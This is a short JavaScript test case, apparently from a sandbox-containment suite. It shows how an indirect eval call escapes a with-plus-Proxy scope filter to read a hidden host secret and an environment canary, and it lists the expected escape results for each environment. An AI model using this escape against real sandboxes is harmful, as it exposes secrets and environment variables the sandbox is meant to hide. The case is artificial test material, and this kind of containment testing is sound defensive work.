/*---
id: scope-indirect-eval
title: Indirect eval escapes a with(Proxy) scope filter
category: scope
goal: Defeat a scope-filter sandbox (with + Proxy hiding process/__hostSecret) and leak the global and env canaries.
technique: Inside `with (new Proxy(...))` every free name is filtered, but indirect eval `(0, eval)(src)` evaluates src in the realm's global scope, where the filter does not apply.
references: https://tc39.es/ecma262/#sec-performeval, https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval#direct_and_indirect_eval
expect: * = contained; host = escaped; worker = escaped; process = escaped; os-sandbox = escaped
expect-hardened: * = contained; host = escaped
---*/
// The filter: names in `blocked` resolve to undefined inside the with-block; everything else passes through.
const blocked = new Set(['process', '__hostSecret', 'globalThis', 'global', 'require', 'Function']);
const filter = new Proxy({}, { has: (t, k) => blocked.has(k), get: () => undefined });
let found;
with (filter) {
  const direct = typeof process === 'undefined' && typeof __hostSecret === 'undefined'; // the filter works…
  // …but `eval` is not blocked, and an indirect call of it ignores the with-scope entirely.
  found = (0, eval)(`({
    hostSecret: typeof __hostSecret === 'undefined' ? undefined : __hostSecret,
    env: typeof process === 'undefined' ? undefined : process.env.WORKBENCH_CANARY,
  })`);
  found.filterHeldForDirectNames = direct;
}
console.log('indirect eval reached:', JSON.stringify(found));
found;
